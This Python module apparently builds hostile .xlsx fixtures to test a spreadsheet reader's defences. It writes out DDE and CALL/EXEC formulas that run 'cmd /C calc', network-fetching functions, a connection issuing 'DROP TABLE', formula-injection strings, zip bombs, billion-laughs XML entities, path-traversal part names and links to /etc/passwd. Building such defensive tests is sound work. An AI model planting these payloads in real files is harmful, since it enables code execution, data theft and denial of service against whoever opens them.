"""Files that are meant to do harm, made from an ordinary recipe workbook."""

import io
import re
import zipfile
from pathlib import Path

from workbooks.add_books import CAPS, PRICES, RECIPE, workbook
from workbooks.rich import parts, rewrite

SHEET, BOOK, RELS = "xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
STRINGS = "xl/sharedStrings.xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
TYPES = "[Content_Types].xml"


def ordinary(folder: Path) -> Path:
    return workbook(folder / "recipe.xlsx", {"Cream": RECIPE, "Caps": CAPS, "Prices": PRICES})


def edited(path: Path, part: str, old: bytes, new: bytes, added: dict[str, bytes] | None = None) -> Path:
    """A copy with the first `old` in a part replaced."""
    content = parts(path)[part]
    assert old in content, (part, old)
    return rewrite(path, path.with_name("hostile.xlsx"), {part: content.replace(old, new, 1)}, added or {})


def with_formulas(path: Path, formulas: list[str], array: str = "") -> Path:
    """Formulas in column K, each with the stored value 7."""
    kind = f' t="array" ref="{array}"' if array else ""
    rows = "".join(
        f'<row r="{r}"><c r="K{r}"><f{kind}>{f.replace("&", "&amp;").replace("<", "&lt;")}</f><v>7</v></c></row>'
        for r, f in enumerate(formulas, 20)
    )
    return edited(path, SHEET, b"</sheetData>", f"{rows}</sheetData>".encode())


def _linked(path: Path, links: dict[str, tuple[str, str, bytes]], workbook_xml: bytes = b"") -> Path:
    """More parts that the workbook refers to: name → (type of relationship, content type, content)."""
    content = parts(path)
    rels, types = content[RELS].decode(), content[TYPES].decode()
    for number, (name, (kind, content_type, _)) in enumerate(links.items()):
        link = f'<Relationship Id="rIdX{number}" Type="{OFFICE}/{kind}" Target="/{name}"/>'
        rels = rels.replace("</Relationships>", f"{link}</Relationships>")
        override = f'<Override PartName="/{name}" ContentType="{content_type}"/>'
        types = types.replace("</Types>", f"{override}</Types>")
    book = content[BOOK].replace(b"</sheets>", b"</sheets>" + workbook_xml)
    added = {name: data for name, (_, _, data) in links.items()}
    return rewrite(
        path, path.with_name("hostile.xlsx"), {RELS: rels.encode(), TYPES: types.encode(), BOOK: book}, added
    )


_SPREADSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def dde(path: Path, address: str) -> Path:
    """A link that asks Windows to run a command, and cells that show what it said."""
    link = (
        f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0" '
        'advise="1"/></ddeItems></ddeLink></externalLink>'
    ).encode()
    kind = f"{_SPREADSHEET}.externalLink+xml"
    external = f'<externalReferences><externalReference xmlns:r="{OFFICE}" r:id="rIdX0"/></externalReferences>'.encode()
    made = _linked(path, {"xl/externalLinks/externalLink1.xml": ("externalLink", kind, link)}, external)
    return _moved(made, with_formulas(_moved(made, path), ["[1]!A0", "cmd|'/C calc'!A0", "cmd|' /C calc'!'A0'"]))


def _moved(made: Path, target: Path) -> Path:
    target.write_bytes(made.read_bytes())
    return target


def external_workbook(path: Path, address: str) -> Path:
    """A link to a workbook on another machine."""
    link = (
        f'<externalLink xmlns="{MAIN}"><externalBook xmlns:r="{OFFICE}" r:id="rId1"><sheetNames><sheetName '
        'val="S"/></sheetNames></externalBook></externalLink>'
    ).encode()
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{OFFICE}/externalLinkPath" Target="{address}/book.xlsx" TargetMode="External"/></Relationships>'
    ).encode()
    kind = f"{_SPREADSHEET}.externalLink+xml"
    external = f'<externalReferences><externalReference xmlns:r="{OFFICE}" r:id="rIdX0"/></externalReferences>'.encode()
    made = _linked(path, {"xl/externalLinks/externalLink1.xml": ("externalLink", kind, link)}, external)
    _moved(rewrite(made, made.with_name("x.xlsx"), (), {"xl/externalLinks/_rels/externalLink1.xml.rels": rels}), path)
    made.with_name("x.xlsx").unlink()
    return with_formulas(path, ["[1]S!A1", "SUM([1]S!A1:A9)", f"'{address}/[book.xlsx]S'!A1"])


def web_query(path: Path, address: str) -> Path:
    """A connection that fetches a page whenever the workbook is opened."""
    connections = (
        f'<connections xmlns="{MAIN}"><connection id="1" name="q" type="4" refreshedVersion="6" refreshOnLoad="1" '
        f'background="1" saveData="1"><webPr url="{address}/q" htmlTables="1"/></connection><connection id="2" '
        f'name="d" type="1" refreshOnLoad="1"><dbPr connection="DRIVER=x;SERVER={address}" command="DROP TABLE x"/>'
        "</connection></connections>"
    ).encode()
    return _linked(path, {"xl/connections.xml": ("connections", f"{_SPREADSHEET}.connections+xml", connections)})


def reaching_out(path: Path, address: str) -> Path:
    """Functions that fetch, call or run something."""
    return with_formulas(
        path,
        [
            f'WEBSERVICE("{address}/w")',
            f'_xlfn.WEBSERVICE("{address}/w")',
            f'FILTERXML(WEBSERVICE("{address}/w"),"//a")',
            f'IMAGE("{address}/i.png")',
            f'HYPERLINK("{address}/h","click")',
            f'RTD("x.y","{address}","z")',
            'CALL("kernel32","WinExec","JCJ","calc",1)',
            'REGISTER.ID("kernel32","WinExec")',
            'EXEC("calc")',
            f'DDE("soffice","{address}/d","A1")',
            f"INDIRECT(\"'{address}/[b.xlsx]S'!A1\")",
            f'SQL.REQUEST("{address}")',
        ],
    )


def injected(path: Path, address: str) -> Path:
    """Names, labels, headings and sheet names that begin like formulas, all of them typed as text."""
    evil = [
        f'=HYPERLINK("{address}/n","x")',
        "+1+cmd|'/C calc'!A0",
        "-2+3+cmd|'/C calc'!A0",
        "@SUM(1+1)*cmd|'/C calc'!A0",
    ]
    rows = [["=phase", "+ingredient", "amount", "unit"]]
    rows += [["=1+1", name, 100 + i, "g"] for i, name in enumerate(evil)]

    def as_text(book):
        for sheet in book:
            for row in sheet:
                for cell in row:
                    if isinstance(cell.value, str):
                        cell.data_type = "s"

    caps = [["fragrance", "5A", "9"], *([name, 0.02, 0.03] for name in evil)]
    prices = [PRICES[0], *([name, 1, "kg", 3.5, None, None] for name in evil)]
    return workbook(path.with_name("hostile.xlsx"), {"='x'!A1": rows, "+Caps": caps, "@Prices": prices}, as_text)


# -- too much of everything --------------------------------------------------------------------------------------------


def wide_dimension(path: Path) -> Path:
    return edited(path, SHEET, b'ref="A1:D5"', b'ref="A1:XFD1048576"')


def far_cells(path: Path) -> Path:
    """A cell in every corner, in columns and rows that are far apart."""
    rows = "".join(f'<row r="{r}"><c r="XFD{r}"><v>1</v></c></row>' for r in (*range(1000, 1_048_576, 5000), 1_048_576))
    return edited(path, SHEET, b"</sheetData>", f"{rows}</sheetData>".encode())


def whole_sheet_formulas(path: Path) -> Path:
    here = [
        "SUM(A:XFD)",
        "SUM(A1:XFD1048576)",
        "TC_SCALE(C:C,100)",
        'TC_ROLLUP("x",A:E)',
        'TC_EXPLAIN("TC_SHARES",A:C)',
    ]
    there = [
        "SUM(Caps!A:XFD)",
        "COUNTA(Caps!1:1048576)",
        'TC_CAP(Caps!A:XFD,"Still Pond",9)',
        "SUM(Caps!A1:XFD1048576*2)",
    ]
    return with_formulas(path, [*here, *there, "TC_SHARES(Caps!A1:XFD1048576)", 'SUMPRODUCT((A:A="x")*(C:C))'])


def whole_sheet_array(path: Path) -> Path:
    """One array formula that says it fills seventeen thousand million cells."""
    return with_formulas(path, ["1+1"], "K20:XFD1048576")


def growing_formulas(path: Path) -> Path:
    """Formulas whose results are enormous."""
    huge = ["SEQUENCE(1048576,16384)", 'REPT("x",32767)&REPT(REPT("x",32767),32767)']
    doubling = ["K20&K20", *(f"K{r}&K{r}" for r in range(24, 64))]
    return with_formulas(path, [*huge, *doubling, 'LEN(REPT("ab",1E9))', "FACT(170)^9", "TC_SCALE(SEQUENCE(100000),1)"])


def whole_sheet_ranges(path: Path) -> Path:
    """Merged cells, validations, formats and names over the whole sheet."""
    more = (
        b'</sheetData><mergeCells count="2"><mergeCell ref="A7:XFD1048576"/><mergeCell ref="F1:XFD6"/></mergeCells>'
        b'<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" priority="1"><formula>1</formula>'
        b'</cfRule></conditionalFormatting><dataValidations count="1"><dataValidation type="custom" '
        b'sqref="A1:XFD1048576"><formula1>1</formula1></dataValidation></dataValidations>'
    )
    made = edited(path, SHEET, b"</sheetData>", more)
    _moved(made, path)
    name = b'<definedName name="recipe_amounts">Cream!$A$1:$XFD$1048576</definedName>'
    names = b"</sheets><definedNames>" + name + b"</definedNames>"
    return edited(path, BOOK, re.search(rb"</sheets>(<definedNames ?/>)?", parts(path)[BOOK]).group(), names)


def with_shared_strings(path: Path, texts: bytes) -> Path:
    kind = f"{_SPREADSHEET}.sharedStrings+xml"
    content = f'<sst xmlns="{MAIN}">'.encode() + texts + b"</sst>"
    return _linked(path, {STRINGS: ("sharedStrings", kind, content)})


def million_strings(path: Path) -> Path:
    """Thirty thousand shared strings that no cell shows."""
    return with_shared_strings(path, b"".join(b"<si><t>%d</t></si>" % n for n in range(30_000)))


def chain(path: Path) -> Path:
    """Four thousand cells, each of which needs the one below, the last the first."""
    rows = "".join(f'<row r="{r}"><c r="K{r}"><f>K{r + 1}+1</f></c></row>' for r in range(20, 4_020))
    return edited(
        path, SHEET, b"</sheetData>", f'{rows}<row r="4020"><c r="K4020"><f>K20</f></c></row></sheetData>'.encode()
    )


# -- what is refused ---------------------------------------------------------------------------------------------------


def _named(path: Path, name: str) -> Path:
    """A part with this name, byte for byte."""
    plain = "X" * len(name)
    made = rewrite(path, path.with_name("hostile.xlsx"), (), {plain: b"<a/>"})
    made.write_bytes(made.read_bytes().replace(plain.encode(), name.encode()))
    return made


def _bombs(path: Path) -> Path:
    """Many parts, none of them suspicious by itself, together three gigabytes."""
    made = rewrite(path, path.with_name("hostile.xlsx"))
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as archive:
        noise = bytes(range(256)) * 4
        for number in range(3):
            block = zipfile.ZipInfo(f"xl/media/{number}.bin")
            block.compress_type = zipfile.ZIP_DEFLATED
            with archive.open(block, "w") as out:
                for _ in range(1024):
                    out.write(noise * 24)
    content = bytearray(made.read_bytes())
    at = -1
    while (at := content.find(b"PK\x01\x02", at + 1)) >= 0:
        if b"xl/media" in content[at + 46 : at + 60]:
            content[at + 24 : at + 28] = (900 << 20).to_bytes(4, "little")
    made.write_bytes(content)
    return made


def _lying(path: Path) -> Path:
    """A sheet that says it has a hundred bytes and unpacks to a hundred megabytes."""
    made = rewrite(path, path.with_name("hostile.xlsx"), {SHEET: b"<worksheet>" + b" " * (100 << 20) + b"</worksheet>"})
    content = bytearray(made.read_bytes())
    at = -1
    while (at := content.find(b"PK\x01\x02", at + 1)) >= 0:
        if SHEET.encode() in content[at + 46 : at + 90]:
            content[at + 24 : at + 28] = (100).to_bytes(4, "little")
    made.write_bytes(content)
    return made


def _many_parts(path: Path) -> Path:
    return rewrite(path, path.with_name("hostile.xlsx"), (), {f"xl/x/{n}": b"" for n in range(20_001)})


_LAUGHS = (
    b'<!DOCTYPE a [<!ENTITY a "lol">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9))
    + b"]>"
)


def _laughs(part: str, wide: bool = False, comment: bool = False):
    def make(path: Path) -> Path:
        xml = parts(path)[part]
        body = xml[xml.index(b"?>") + 2 :] if xml.startswith(b"<?xml") else xml
        said = (b"<!-- " + b"x" * 5000 + b" -->" if comment else b"") + _LAUGHS + body
        if wide:
            said = b"\xff\xfe" + ('<?xml version="1.0" encoding="UTF-16"?>' + said.decode()).encode("utf-16-le")
        return rewrite(path, path.with_name("hostile.xlsx"), {part: said})

    return make


def _target(target: bytes):
    def make(path: Path) -> Path:
        rels = parts(path)[RELS]
        found = re.search(rb'Target="[^"]*sheet1.xml"', rels).group()
        return edited(path, RELS, found, b'Target="' + target + b'"')

    return make


def _inside_itself(path: Path) -> Path:
    """A workbook as a part of a workbook's part, ten deep: only the outermost is looked at, and it is none."""
    content = path.read_bytes()
    for _ in range(10):
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("recipe.xlsx", content)
        content = stream.getvalue()
    path.with_name("hostile.xlsx").write_bytes(content)
    return path.with_name("hostile.xlsx")


REFUSED = {
    "parts that unpack to gigabytes": (_bombs, "far more data"),
    "a part larger than it says": (_lying, "damaged"),
    "very many parts": (_many_parts, "more than a workbook ever has"),
    "zip in zip": (_inside_itself, "no list of content types"),
    "entities in the texts": (lambda p: _laughs(STRINGS)(_moved(with_shared_strings(p, b"<si/>"), p)), "XML entities"),
    "entities in the list of sheets": (_laughs(BOOK), "XML entities"),
    "entities in the content types": (_laughs(TYPES), "XML entities"),
    "entities in UTF-16": (_laughs(SHEET, wide=True), "XML entities"),
    "entities behind a comment": (_laughs("xl/styles.xml", comment=True), "XML entities"),
    "an absolute name": (lambda p: _named(p, "/etc/cron.d/x"), "unsafe name"),
    "a name with a drive": (lambda p: _named(p, "C:/Windows/x"), "unsafe name"),
    "a name with backslashes": (lambda p: _named(p, "..\\..\\evil"), "unsafe name"),
    "a name that climbs": (lambda p: _named(p, "xl/../../../evil"), "unsafe name"),
    "a name that is cut": (lambda p: _named(p, "evil.xml\0.txt"), "unsafe name"),
    "a sheet in another folder": (_target(b"../../../../../etc/passwd"), "has no part"),
    "a sheet in a file address": (_target(b"file:///etc/passwd"), "has no part"),
}
REACHING = {
    "DDE": dde,
    "a workbook elsewhere": external_workbook,
    "a web query": web_query,
    "functions that fetch": reaching_out,
    "formula injection": injected,
}
TOO_MUCH = {
    "a dimension of the whole sheet": wide_dimension,
    "cells far apart": far_cells,
    "formulas over the whole sheet": whole_sheet_formulas,
    "an array over the whole sheet": whole_sheet_array,
    "results that grow": growing_formulas,
    "ranges over the whole sheet": whole_sheet_ranges,
    "very many texts": million_strings,
    "a very long chain": chain,
}
